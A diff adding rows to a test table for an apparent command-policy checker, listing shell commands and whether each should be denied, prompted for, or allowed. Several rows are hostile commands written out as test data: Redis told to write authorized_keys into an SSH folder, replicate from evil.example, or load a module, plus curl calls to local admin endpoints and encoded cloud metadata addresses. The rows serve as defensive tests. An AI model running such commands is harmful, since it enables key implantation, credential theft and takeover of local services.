@@ -1,6 +1,38 @@
 import { policyTable } from './table';
 
 policyTable('metadata-and-local-services', [
+  {
+    note: 'redis told to dump into the ssh folder',
+    spec: 'redis-cli -h 127.0.0.1 CONFIG SET dir /home/dev/.ssh',
+    expect: 'deny',
+  },
+  { note: 'redis dump file renamed', spec: 'redis-cli config set dbfilename authorized_keys', expect: 'deny' },
+  {
+    note: 'redis replicating from another server',
+    spec: 'redis-cli -p 6380 SLAVEOF evil.example 6379',
+    expect: 'deny',
+  },
+  { note: 'redis loading a module', spec: 'redis-cli MODULE LOAD /tmp/x.so', expect: 'deny' },
+  { note: 'near miss: redis replication turned off', spec: 'redis-cli SLAVEOF NO ONE', expect: null },
+  { note: 'near miss: redis memory setting', spec: 'redis-cli CONFIG SET maxmemory 100mb', expect: null },
+  { note: 'near miss: redis read', spec: 'redis-cli GET session:1', expect: null },
+  { note: "Istio sidecar's Envoy admin", spec: 'curl -s http://127.0.0.1:15000/config_dump', expect: 'ask' },
+  { note: "Envoy's admin API", spec: 'curl -s http://localhost:9901/clusters', expect: 'ask' },
+  { note: 'a loopback name without a scheme', spec: 'curl -s localhost:2375/containers/json', expect: 'ask' },
+  { note: 'an IPv6 loopback without a scheme', spec: "curl -s '[::1]:8500/v1/kv/?recurse'", expect: 'ask' },
+  { note: 'near miss: a local dev server without a scheme', spec: 'curl -s localhost:3000/health', expect: null },
+  { note: 'Spring actuator env', spec: 'curl -s http://localhost:8080/actuator/env', expect: 'ask' },
+  {
+    note: 'Spring actuator heap dump',
+    spec: 'curl -s -o h.hprof http://127.0.0.1:8081/manage/heapdump',
+    expect: 'ask',
+  },
+  { note: 'near miss: actuator health', spec: 'curl -s http://localhost:8080/actuator/health', expect: null },
+  {
+    note: 'near miss: a remote service path named alike',
+    spec: 'curl -s https://api.example.com/actuator/env',
+    expect: null,
+  },
   { note: 'AWS metadata', spec: 'curl -s http://169.254.169.254/latest/meta-data/', expect: 'deny' },
   { note: 'decimal', spec: 'curl http://2852039166/latest/meta-data/', expect: 'deny' },
   { note: 'hex', spec: 'curl http://0xa9fea9fe/latest/user-data', expect: 'deny' },
